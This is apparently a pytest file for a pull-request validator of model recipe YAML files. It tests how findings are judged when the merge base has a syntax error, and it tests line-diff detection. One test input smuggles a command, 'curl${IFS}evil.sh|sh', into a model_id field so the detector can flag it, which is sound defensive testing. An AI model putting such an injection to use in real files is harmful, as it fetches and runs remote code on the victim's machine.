"""``pr`` on a recipe that does not load at the merge base (a YAML syntax error): no rule
judged the base, so the head's findings are placed by the lines of the text. What the
change writes on a line it adds or edits is new; a rule no suppression comment silences
(``REF018`` shell code) is new wherever it is, since the site never rendered the broken
file; what the syntax error hid on lines the change leaves alone stays existing, so a
change that only repairs the file is not blocked (trial 8 #4)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from validator.pr.baseline import (
    EDITED_AT_HEAD,
    NEVER_EXISTING,
    NOT_JUDGED_AT_BASE,
    edited_lines,
)

from .conftest import commit_all, pr_json

CHAT = "models/example-org/Example-Chat-8B.yaml"
MODEL_ID = 'model_id: "example-org/Example-Chat-8B"'
SHELL = 'model_id: "example-org/Example-Chat-8B;curl${IFS}evil.sh|sh"'
OLD_FLAG = "--no-such-flag-at-all"
NEW_FLAG = "--another-made-up-flag"


def _findings(report: dict[str, Any]) -> list[dict[str, Any]]:
    (doc,) = [d for d in report["documents"] if d["path"] == CHAT]
    found: list[dict[str, Any]] = doc["findings"]
    return found


@pytest.fixture()
def broken_base(example_repo: Path) -> tuple[Path, str, str]:
    """A merge base where the recipe has an unknown flag and a syntax error hiding it.
    Returns the repository, the base commit and the recipe's loading text."""
    recipe = example_repo / CHAT
    good = recipe.read_text(encoding="utf-8").replace(
        "  base_args:\n", f'  base_args:\n    - "{OLD_FLAG}"\n', 1)
    assert MODEL_ID in good
    recipe.write_text(good.replace('  title: "Example-Chat-8B"', '  title: "Example-Chat-8B',
                                   1), encoding="utf-8")
    return example_repo, commit_all(example_repo, "a syntax error hiding a flag"), good


def test_repairing_the_file_and_adding_shell_code_is_blocked(
        broken_base: tuple[Path, str, str], capsys: pytest.CaptureFixture[str]) -> None:
    repo, base, good = broken_base
    (repo / CHAT).write_text(good.replace(MODEL_ID, SHELL, 1), encoding="utf-8")
    head = commit_all(repo, "repair, and shell code in model_id")
    code, report = pr_json(repo, base, head, capsys)
    assert code == 1
    new = [f for f in _findings(report) if f["baseline"] == "new"]
    (shell,) = [f for f in new if f["rule"] == "REF018"]
    assert "curl${IFS}evil.sh" in shell["message"] and NEVER_EXISTING in shell["message"]
    assert report["summary"]["new"] >= 1


def test_a_finding_on_a_line_the_repair_writes_is_new_the_hidden_one_existing(
        broken_base: tuple[Path, str, str], capsys: pytest.CaptureFixture[str]) -> None:
    repo, base, good = broken_base
    (repo / CHAT).write_text(good, encoding="utf-8")
    repaired = commit_all(repo, "repair only")
    code, report = pr_json(repo, base, repaired, capsys)
    assert code == 0 and report["summary"]["new"] == 0  # only repairs: not blocked
    (repo / CHAT).write_text(good.replace(f'    - "{OLD_FLAG}"\n',
                                          f'    - "{OLD_FLAG}"\n    - "{NEW_FLAG}"\n', 1),
                             encoding="utf-8")
    head = commit_all(repo, "one more flag")
    code, report = pr_json(repo, base, head, capsys)
    assert code == 1
    found = _findings(report)
    (added,) = [f for f in found if NEW_FLAG in f["message"]]
    assert added["baseline"] == "new" and EDITED_AT_HEAD in added["message"]
    (hidden,) = [f for f in found if OLD_FLAG in f["message"]]
    assert hidden["baseline"] == "unchanged" and NOT_JUDGED_AT_BASE in hidden["message"]


def test_edited_lines_are_the_heads_lines_a_line_diff_adds_or_replaces() -> None:
    assert edited_lines(b"a\nb\nc\n", b"a\nB\nc\nd\n") == frozenset({2, 4})
    # CR LF and CR break lines too
    assert edited_lines(b"a\r\nb\rc\n", b"a\r\nb\rC\n") == frozenset({3})
    assert edited_lines(b"a\n", b"a\n") == frozenset()
    assert edited_lines(None, b"a\n") is None
    # a middle too large to diff counts as edited, between the kept start and end
    old, new = b"s\n" + b"x\ny\n" * 2000 + b"e\n", b"s\n" + b"y\nx\n" * 2000 + b"e\n"
    assert edited_lines(old, new) == frozenset(range(2, 4002))
